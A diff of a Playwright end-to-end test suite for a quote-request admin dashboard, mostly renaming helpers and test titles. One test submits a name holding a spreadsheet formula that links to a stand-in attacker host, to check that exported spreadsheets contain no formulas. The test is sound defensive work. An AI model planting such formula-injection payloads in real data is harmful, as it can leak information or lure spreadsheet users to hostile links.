@@ -1,14 +1,23 @@
 import { type Browser, expect, type Page, test } from "@playwright/test";
-import { call, enter, expectAccessible, signInAt, somebody, tabTo, watchConsole, watchFor } from "./support";
+import {
+  call,
+  expectAccessible,
+  fillSignInPage,
+  newPerson,
+  signInAt,
+  tabTo,
+  watchConsole,
+  watchForText,
+} from "./support";
 
 const admin = "admin@example.com";
 const toast = (page: Page, title: string) => expect(page.getByText(title, { exact: true })).toBeVisible();
 
-/** Somebody asks for a quote, as a visitor does. */
-async function aRequest(browser: Browser) {
+/** Request a quote as a visitor. */
+async function requestQuote(browser: Browser) {
   const visitor = await browser.newPage();
   await visitor.goto("/quote");
-  const { name, email, phone } = somebody();
+  const { name, email, phone } = newPerson();
   const { id } = await call<{ id: string }>(visitor, "POST", "/api/quotes", {
     fullName: name,
     email,
@@ -21,8 +30,8 @@ async function aRequest(browser: Browser) {
   return { id, name, list: `/admin?tab=quotes&q=${encodeURIComponent(name).replaceAll("%20", "+")}` };
 }
 
-/** Whoever asked last stands at the end of the queue. */
-async function toTheEnd(page: Page) {
+/** Load the end of the queue, where the newest request is. */
+async function loadWholeQueue(page: Page) {
   const more = page.getByRole("button", { name: "Show more" });
   await expect(page.getByText(/^Showing/)).toBeVisible();
   while (await more.isVisible()) {
@@ -32,11 +41,11 @@ async function toTheEnd(page: Page) {
   }
 }
 
-test("a request is answered from the queue", async ({ page, browser }) => {
+test("a quote is priced from the queue", async ({ page, browser }) => {
   const console = watchConsole(page);
-  const { id, name } = await aRequest(browser);
+  const { id, name } = await requestQuote(browser);
   await signInAt(page, "/admin", admin);
-  await toTheEnd(page);
+  await loadWholeQueue(page);
   const line = page.getByRole("row").filter({ hasText: name });
   await expect(line).toContainText(/2[34] h left/);
   await expect(line.getByRole("link", { name: `Text 603-555-0172, ${name}, preferred` })).toHaveAttribute(
@@ -67,9 +76,12 @@ test("a request is answered from the queue", async ({ page, browser }) => {
   console.expectNone();
 });
 
-test("two administrators at one quote: nothing is overwritten unseen @desktop", async ({ page, browser }) => {
+test("two administrators edit one quote: nothing is overwritten unseen @desktop", async ({
+  page,
+  browser,
+}) => {
   const console = watchConsole(page, [/409/]);
-  const { name, list } = await aRequest(browser);
+  const { name, list } = await requestQuote(browser);
   const second = await browser.newPage();
   await signInAt(page, list, admin);
   await signInAt(second, list, admin);
@@ -103,30 +115,30 @@ test("two administrators at one quote: nothing is overwritten unseen @desktop", 
   console.expectNone();
 });
 
-test("what is typed into a row survives the end of the session @desktop", async ({
+test("unsaved changes in a row survive the end of the session @desktop", async ({
   page,
   context,
   browser,
 }) => {
-  const { list } = await aRequest(browser);
+  const { list } = await requestQuote(browser);
   await signInAt(page, list, admin);
-  const said = await watchFor(page, "You are logged out. Logging in again...");
+  const said = await watchForText(page, "You are logged out. Logging in again...");
   await page.reload();
   await page.getByLabel(/^Amount of quote/).fill("900");
   await context.clearCookies();
   await page.getByLabel(/^Amount of quote/).press("Enter");
   await said.shown;
   await page.waitForURL(/\/accounts\/login\//);
-  await enter(page, admin);
+  await fillSignInPage(page, admin);
   await expect(page.getByLabel(/^Amount of quote/)).toHaveValue("900");
   await page.getByLabel(/^Amount of quote/).press("Enter");
   await toast(page, "Quote Updated");
 });
 
-test("several quotes get one status; what a customer agreed to stays", async ({ page, browser }) => {
+test("several quotes get one status, except those that a customer accepted", async ({ page, browser }) => {
   const console = watchConsole(page);
-  const one = await aRequest(browser);
-  const two = await aRequest(browser);
+  const one = await requestQuote(browser);
+  const two = await requestQuote(browser);
   await signInAt(page, "/admin?tab=quotes", admin);
   await call(page, "PATCH", `/api/quotes/${two.id}`, { status: "approved", quoteAmount: 500 });
   await page.reload();
@@ -154,9 +166,9 @@ test("several quotes get one status; what a customer agreed to stays", async ({ 
   console.expectNone();
 });
 
-test("the spreadsheet holds what the filters show, and runs nothing @desktop", async ({ page }) => {
+test("the spreadsheet has the filtered quotes and no formulas @desktop", async ({ page }) => {
   await signInAt(page, "/admin", admin);
-  const { name, email, phone } = somebody();
+  const { name, email, phone } = newPerson();
   await call(page, "POST", "/api/quotes", {
     fullName: `=HYPERLINK("http://evil.example/${name}")`,
     email,
@@ -178,7 +190,7 @@ test("the spreadsheet holds what the filters show, and runs nothing @desktop", a
 
 test("a quote is priced with the keyboard alone @desktop", async ({ page, browser }) => {
   const console = watchConsole(page);
-  const { name, list } = await aRequest(browser);
+  const { name, list } = await requestQuote(browser);
   await signInAt(page, list, admin);
   await tabTo(page, /^\s*Status of quote/);
   await page.keyboard.press("ArrowDown");
